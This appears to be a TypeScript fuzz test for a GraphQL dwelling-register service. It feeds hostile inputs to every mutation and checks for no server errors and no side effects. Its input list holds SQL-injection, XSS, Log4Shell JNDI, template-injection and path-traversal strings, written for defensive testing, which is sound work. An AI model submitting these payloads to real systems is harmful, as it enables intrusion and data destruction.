import fc from 'fast-check';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  type GraphQLInputType,
} from 'graphql';
import { contractSchema } from '../../src/access/access-matrix.js';
import { realPostgresAvailable } from '../support/test-database.js';
import { startTestService, type TestService } from '../support/test-service.js';
import { documentFor, plausibleValue } from './support/operation-documents.js';

/**
 * Property test: thousands of malformed and hostile inputs (wrong types, huge strings, unicode,
 * injection attempts, out-of-range dates and amounts) to every mutation of the schema, discovered
 * from the schema itself. Never a 5xx, the process stays up, and a refused mutation appends nothing.
 */
const RUNS = Number(process.env.FUZZ_RUNS ?? 200);

const HOSTILE_TEXT = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '"); DELETE FROM personal_data_keys; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '\u0000',
  '\uFEFF\u200B\u202E',
  '\uD800',
  '𝕭𝖔𝖑𝖎𝖌𝖇𝖔𝖐 🏠',
  'ﷺ'.repeat(50),
  ' ',
  '',
  '15058512345',
  '__proto__',
  'constructor',
];
const HOSTILE_DATES = ['2025-02-30', '2025-13-01', '0000-01-01', '9999-12-31', '1800-01-01', '2025-1-1', '+275760-09-13', '2025-01-01T25:61:61Z', '1969-12-31T23:59:60Z', '-1', '99999999999999999999999', 'yesterday', '2025/01/01'];
const HUGE = 'x'.repeat(200_000);

const wrongType = fc.oneof(fc.integer(), fc.double({ noNaN: true }), fc.boolean(), fc.constant(null), fc.constant({}), fc.array(fc.integer(), { maxLength: 3 }), fc.string({ maxLength: 10 }));
const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constant(HUGE) },
);

/** Mostly values of the right GraphQL type (so they reach the domain's rules), sometimes of a wrong one. */
function arbitraryFor(type: GraphQLInputType, depth = 0): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 15, arbitrary: typedFor(type, depth) }, { weight: 1, arbitrary: wrongType });
}

function typedFor(type: GraphQLInputType, depth: number): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return fc.oneof({ weight: 30, arbitrary: typedFor(type.ofType, depth) }, { weight: 1, arbitrary: fc.constant(null) });
  if (isListType(type)) {
    const element = arbitraryFor(type.ofType, depth + 1);
    return fc.oneof({ weight: 8, arbitrary: fc.array(element, { maxLength: 4 }) }, {
        weight: 1,
        // Over-long lists of small elements; a 1001-fold copy of a huge string would be a 200 MB body,
        // which tests the body limit (covered on its own in hardened-graphql) rather than the list bound.
        arbitrary: element.map((e) => ((JSON.stringify(e) ?? '').length > 10_000 ? [e] : Array.from({ length: 1001 }, () => e))),
      });
  }
  const named = getNamedType(type);
  if (isEnumType(named)) return fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...named.getValues().map((v) => v.name)) }, { weight: 1, arbitrary: fc.constantFrom('NOT_A_VALUE', 'ordinary', '') });
  if (isInputObjectType(named)) {
    if (depth > 4) return fc.constant(plausibleValue(named));
    const fields = Object.values(named.getFields());
    // Start from a plausible object so that hostile values reach the domain rules, not only GraphQL's checks.
    return fc
      .record(Object.fromEntries(fields.map((f) => [f.name, arbitraryFor(f.type, depth + 1)])))
      .chain((hostile) => fc.subarray(Object.keys(hostile), { maxLength: Math.min(3, Object.keys(hostile).length) }).map((keys) => ({ ...(plausibleValue(named) as object), ...Object.fromEntries(keys.map((k) => [k, hostile[k]])) })))
      .map((o) => JSON.parse(JSON.stringify(o)) as unknown)
      .chain((o) => fc.oneof({ weight: 15, arbitrary: fc.constant(o) }, { weight: 1, arbitrary: fc.constant({ ...(o as object), unknownField: 1 }) }));
  }
  switch (named.name) {
    case 'String':
      return text;
    case 'ID':
      return fc.oneof(fc.constant(plausibleValue(named)), fc.uuid(), text);
    case 'Int':
      return fc.oneof(fc.integer(), fc.constantFrom(-2147483648, 2147483647, 0, -1, 2 ** 31, 2 ** 53, -(2 ** 53), 1.5));
    case 'Float':
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(-0, 1e308, -1e308, 5e-324, -1));
    case 'Boolean':
      return fc.boolean();
    case 'Date':
    case 'DateTime':
    case 'LogPosition':
      return fc.oneof(fc.constantFrom(...HOSTILE_DATES), fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, named.name === 'Date' ? 10 : 24)), text);
    default:
      return text;
  }
}

describe('hostile input to every mutation', () => {
  const schema = contractSchema();
  const mutations = Object.keys(schema.getMutationType()!.getFields());
  let service: TestService;
  let sent = 0;
  const eventCount = async () => (await service.runtime.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM events')).rows[0]!.n;

  /** Outcomes by error code (or 'ok'); the domain's own refusals show that hostile values got past GraphQL's checks. */
  const outcomes = new Map<string, number>();

  beforeAll(async () => {
    service = await startTestService(realPostgresAvailable() ? 'postgres' : 'pglite');
    // The id plausibleValue() gives every ID argument: commands on it reach the Dwelling decider's rules.
    const registered = await service.graphql('mutation ($input: RegisterDwellingInput!) { registerDwelling(input: $input) { dwellingId } }', {
      input: {
        dwellingId: plausibleValue(schema.getType('ID') as GraphQLInputType),
        matrikkel: { kommunenummer: '1505', gardsnummer: 12, bruksnummer: 345 },
        bruksenhetsnummer: 'H0101',
        address: { street: 'Langveien 4', postalCode: '6509', postalTown: 'Kristiansund' },
        district: 'Nordlandet',
        dwellingType: 'ORDINARY',
        rooms: 3,
        bedrooms: 2,
        primaryAreaM2: 62.5,
        floor: 1,
        wheelchairAccessible: true,
        universallyDesigned: false,
        sharedLiving: false,
        rentToOwnPotential: true,
        ownership: 'MUNICIPAL',
        registeredOn: '2024-01-15',
      },
    });
    expect(registered.body.errors).toBeUndefined();
  }, 60_000);
  afterAll(async () => {
    console.log(`hostile-input: ${sent} requests to ${mutations.length} mutations; outcomes ${JSON.stringify(Object.fromEntries(outcomes))}`);
    await service?.stop();
  });

  it.each(mutations)('%s: never 5xx, and a refused call appends nothing', async (name) => {
    const { query, field } = documentFor(schema, 'Mutation', name);
    const variables = fc.record(Object.fromEntries(field.args.map((a) => [a.name, arbitraryFor(a.type)])));
    await fc.assert(
      fc.asyncProperty(variables, async (vars) => {
        const before = await eventCount();
        const r = await service.graphql(query, JSON.parse(JSON.stringify(vars)) as Record<string, unknown>);
        sent++;
        expect(r.status).toBeLessThan(500);
        const codes: string[] = (r.body.errors ?? []).map((e: any) => e.extensions?.code);
        const outcome = r.body.errors ? `${codes[0]}${r.body.errors[0].extensions?.reason ? '/domain' : ''}` : 'ok';
        outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
        expect(codes).not.toContain('INTERNAL_SERVER_ERROR');
        if (r.body.errors) expect(await eventCount()).toBe(before);
      }),
      { numRuns: RUNS, endOnFailure: true },
    );
    expect((await fetch(`${service.url}/health/live`)).status).toBe(200);
  }, 600_000);

  it('got past GraphQL\'s own checks often enough to test the domain rules', () => {
    const domain = [...outcomes].filter(([k]) => k.endsWith('/domain')).reduce((n, [, v]) => n + v, 0);
    expect(domain).toBeGreaterThan(sent / 10);
  });

  it('answers malformed HTTP requests with 4xx, never 5xx', async () => {
    const auth = await service.authHeaders();
    const bodies: [string, string][] = [
      ['application/json', '{'],
      ['application/json', '[]'],
      ['application/json', '{"query": 42}'],
      ['application/json', '{"query": "{ logHead }", "variables": "x"}'],
      ['application/json', '{"query": "mutation { ping }", "operationName": 7}'],
      ['application/json', '{"query": "{ logHead }", "extensions": []}'],
      ['application/json', `{"query": "{ logHead }", "variables": ${'['.repeat(5000)}${']'.repeat(5000)}}`],
      ['application/json', '\u0000\u0001'],
      ['text/plain', '{"query": "{ logHead }"}'],
      ['application/xml', '<query/>'],
      ['application/json; charset=latin1', '{"query": "{ logHead }"}'],
      ['application/json', JSON.stringify({ query: `{ ${'a: logHead '.repeat(10000)} }` })],
      ['application/json', JSON.stringify({ query: `query ${'{ dwellings { edges { node { id } } } }'.repeat(2)}` })],
    ];
    for (const [type, body] of bodies) {
      const r = await fetch(`${service.url}/graphql`, { method: 'POST', headers: { 'content-type': type, ...auth }, body });
      sent++;
      expect([body.slice(0, 40), r.status < 500]).toEqual([body.slice(0, 40), true]);
    }
    expect((await fetch(`${service.url}/health/live`)).status).toBe(200);
  });
});
